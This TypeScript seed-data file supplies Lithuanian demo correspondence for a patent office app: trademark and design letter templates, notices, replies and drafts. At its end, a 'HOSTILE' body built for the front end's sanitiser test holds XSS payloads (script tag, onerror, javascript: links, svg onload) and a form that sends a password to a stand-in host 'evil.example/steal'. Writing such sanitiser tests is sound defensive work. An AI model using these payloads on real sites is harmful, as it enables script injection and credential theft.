/**
 * Texts of the seeded correspondence: office senders, letter subjects with HTML bodies per
 * category (paragraphs, lists, bold, links), the user's letters and replies, and one hostile body
 * for the front end's sanitiser test.
 */

export const OFFICE = "Valstybinis patentų biuras (info@office.example.lt)";
export const USER = "Jonas Petraitis (demo.parent@example.lt)";
export const CHILD_USER = "Ona Kazlauskienė (demo.child@example.lt)";

export const EXAMINERS = {
  TRADEMARK: "Rasa Mockienė, Prekių ženklų skyrius (rasa.mockiene@office.example.lt)",
  DESIGN: "Tomas Kairys, Dizainų skyrius (tomas.kairys@office.example.lt)",
  FINANCE: "Aušra Gintalienė, Finansų skyrius (ausra.gintaliene@office.example.lt)",
} as const;

export interface LetterContext {
  applicationNumber: string | null;
  dueDate: string | null;
  signer: string;
}

export interface LetterTemplate {
  subject: string;
  body: (ctx: LetterContext) => string;
}

const LINK = '<a href="https://office.example.lt/paslaugos">biuro svetainėje</a>';

function signature(signer: string): string {
  return `<p>Pagarbiai,<br>${signer.replace(/ \(.*\)$/, "")}</p>`;
}

function dueLine(ctx: LetterContext): string {
  return ctx.dueDate
    ? `<p>Atsakymą prašome pateikti iki <strong>${ctx.dueDate.slice(0, 10)}</strong>. Nepateikus atsakymo laiku, paraiška bus laikoma atsiimta.</p>`
    : "";
}

function letter(intro: string, items: string[], ordered: boolean, outro: string): (ctx: LetterContext) => string {
  const tag = ordered ? "ol" : "ul";
  return (ctx) =>
    [
      "<p>Gerbiamas pareiškėjau,</p>",
      `<p>${intro.replace("{app}", `<strong>${ctx.applicationNumber ?? ""}</strong>`)}</p>`,
      `<${tag}>${items.map((i) => `<li>${i}</li>`).join("")}</${tag}>`,
      `<p>${outro} Daugiau informacijos rasite ${LINK}.</p>`,
      dueLine(ctx),
      signature(ctx.signer),
    ].join("\n");
}

export const LETTERS: Record<"TRADEMARK" | "DESIGN", LetterTemplate[]> = {
  TRADEMARK: [
    {
      subject: "Pranešimas apie paraiškos trūkumus",
      body: letter("Išnagrinėjus prekių ženklo paraišką {app}, nustatyti šie trūkumai:", [
        "prekių ir paslaugų sąrašas neatitinka <em>Nicos klasifikacijos</em>;",
        "nepateiktas <strong>žymens vaizdas</strong> reikiamos raiškos;",
        "nesumokėtas papildomos klasės mokestis.",
      ], true, "Trūkumus galite pašalinti pateikdami patikslintus dokumentus."),
    },
    {
      subject: "Sprendimas registruoti prekių ženklą",
      body: letter("Informuojame, kad prekių ženklas pagal paraišką {app} bus įregistruotas.", [
        "registracija bus paskelbta artimiausiame biuletenyje;",
        "registracijos liudijimą gausite elektroniniu būdu.",
      ], false, "Prieštaravimus galima pateikti per tris mėnesius nuo paskelbimo."),
    },
    {
      subject: "Gautas prieštaravimas dėl prekių ženklo registracijos",
      body: letter("Dėl prekių ženklo registracijos pagal paraišką {app} gautas trečiojo asmens prieštaravimas.", [
        "prieštaravimo pagrindas: <strong>supainiojimo galimybė</strong> su ankstesniu ženklu;",
        "prieštaravimo kopija pridedama prie šio laiško.",
      ], false, "Kviečiame pateikti savo paaiškinimus."),
    },
    {
      subject: "Prašymas pateikti papildomus dokumentus",
      body: letter("Paraiškos {app} nagrinėjimui reikalingi šie dokumentai:", [
        "atstovo <strong>įgaliojimas</strong>;",
        "prioriteto dokumento kopija;",
        "vertimas į lietuvių kalbą.",
      ], true, "Dokumentus pateikite per naudotojo sritį."),
    },
    {
      subject: "Priminimas apie registracijos galiojimo pratęsimą",
      body: letter("Primename, kad artėja prekių ženklo pagal paraišką {app} registracijos galiojimo pabaiga.", [
        "pratęsimo mokestis: <strong>150,00 EUR</strong>;",
        "prašymą galima pateikti elektroniniu būdu.",
      ], false, "Registracijos galiojimas pratęsiamas dešimčiai metų."),
    },
    {
      subject: "Ekspertizės ataskaita",
      body: letter("Pateikiame prekių ženklo paraiškos {app} ekspertizės ataskaitą.", [
        "žymuo turi skiriamąjį požymį;",
        "nustatytas panašumas su <em>ankstesniais</em> ženklais nėra esminis.",
      ], false, "Išsami ataskaita pridedama."),
    },
  ],
  DESIGN: [
    {
      subject: "Pranešimas apie dizaino paraiškos trūkumus",
      body: letter("Išnagrinėjus dizaino paraišką {app}, nustatyta:", [
        "vaizduose matomi <strong>pašaliniai objektai</strong>;",
        "nenurodyta Lokarno klasė;",
        "trūksta dizaino aprašymo.",
      ], true, "Prašome pateikti patikslintus vaizdus."),
    },
    {
      subject: "Dizaino registracijos liudijimas",
      body: letter("Dizainas pagal paraišką {app} įregistruotas. Registracijos liudijimas pridedamas.", [
        "registracija galioja <strong>penkerius metus</strong>;",
        "galiojimą galima pratęsti iki dvidešimt penkerių metų.",
      ], false, "Sveikiname įregistravus dizainą."),
    },
    {
      subject: "Prašymas atidėti dizaino paskelbimą",
      body: letter("Gautas Jūsų prašymas atidėti dizaino pagal paraišką {app} paskelbimą.", [
        "paskelbimas gali būti atidėtas ne ilgiau kaip <strong>30 mėnesių</strong>;",
        "už atidėjimą mokamas nustatytas mokestis.",
      ], false, "Prašome patvirtinti pageidaujamą atidėjimo terminą."),
    },
    {
      subject: "Mokėjimo pranešimas dėl dizaino paraiškos",
      body: letter("Paraiškai {app} nagrinėti nesumokėti šie mokesčiai:", [
        "paraiškos padavimo mokestis;",
        "<em>papildomų vaizdų</em> mokestis.",
      ], true, "Mokėjimo rekvizitai pridedami."),
    },
  ],
};

export const NOTICES: LetterTemplate[] = [
  {
    subject: "Pasikeitė biuro darbo laikas",
    body: (ctx) =>
      `<p>Informuojame, kad nuo kito mėnesio biuro klientų aptarnavimo skyrius dirbs:</p>
<ul><li>pirmadieniais–ketvirtadieniais <strong>8.00–17.00</strong>;</li><li>penktadieniais <strong>8.00–15.45</strong>.</li></ul>
<p>Elektronines paslaugas galite naudoti visą parą ${LINK}.</p>${signature(ctx.signer)}`,
  },
  {
    subject: "Naudotojo srities atnaujinimas",
    body: (ctx) =>
      `<p>Naudotojo sritis atnaujinta: dabar atsakymus galite rengti ir siųsti <em>telefone</em>, o juodraščiai išsaugomi automatiškai.</p>
<p>Klausimus siųskite adresu <a href="mailto:info@office.example.lt">info@office.example.lt</a>.</p>${signature(ctx.signer)}`,
  },
];

export const USER_LETTERS: string[] = [
  "Prašymas pratęsti atsakymo terminą",
  "Patikslinti paraiškos dokumentai",
  "Prašymas pakeisti atstovo duomenis",
  "Paaiškinimai dėl ekspertizės pastabų",
  "Prašymas išduoti registracijos liudijimo kopiją",
];

export function userLetterBody(subject: string, applicationNumber: string | null): string {
  return `<p>Gerbiamieji,</p>
<p>${subject} dėl paraiškos <strong>${applicationNumber ?? ""}</strong>.</p>
<ul><li>pridedame reikiamus dokumentus;</li><li>prašome patvirtinti gavimą.</li></ul>
<p>Pagarbiai,<br>Jonas Petraitis</p>`;
}

export const REPLY_BODIES: string[] = [
  "<p>Dėkojame už pranešimą.</p><p>Pridedame <strong>patikslintus dokumentus</strong> ir prašome tęsti nagrinėjimą.</p>",
  "<p>Gerbiamieji,</p><p>Trūkumus pašalinome:</p><ol><li>patikslinome prekių sąrašą;</li><li>pateikėme naują vaizdą.</li></ol>",
  "<p>Prašome <em>pratęsti</em> atsakymo terminą vienam mėnesiui, nes renkame papildomus įrodymus.</p>",
  "<p>Su prieštaravimu nesutinkame.</p><ul><li>žymenys skiriasi vizualiai;</li><li>prekės nėra panašios.</li></ul><p>Pagarbiai,<br>Jonas Petraitis</p>",
];

export const DRAFT_BODIES: string[] = [
  "<p>Gerbiamieji,</p><p>Rengiame atsakymą į Jūsų pastabas. <strong>Dar papildysime.</strong></p>",
  "<p>Juodraštis: patikslinti prekių sąrašą ir pridėti <u>įgaliojimą</u>.</p><ul><li>9 klasė;</li><li>42 klasė.</li></ul>",
  "<p>Prašome atidėti terminą.</p>",
];

export const HOSTILE = {
  subject: "Saugumo patikra: laiškas su pavojingu turiniu",
  body: `<p>Šiame laiške yra turinio, kurį programa privalo išvalyti prieš rodydama.</p>
<script>window.__xss = "script"; alert("script")</script>
<img src="x" onerror="window.__xss = 'onerror'; alert('onerror')">
<p><a href="javascript:window.__xss = 'link'; alert('link')">Spustelėkite čia</a></p>
<iframe src="javascript:alert('iframe')"></iframe>
<p onclick="window.__xss = 'click'" style="background:url(javascript:alert(1))">Paspaudžiamas tekstas</p>
<svg onload="window.__xss = 'svg'"><circle r="10"></circle></svg>
<form action="https://evil.example/steal"><input name="password"><button>Siųsti</button></form>
<p><a href="https://office.example.lt/saugumas" target="_blank">Saugi nuoroda</a></p>`,
};
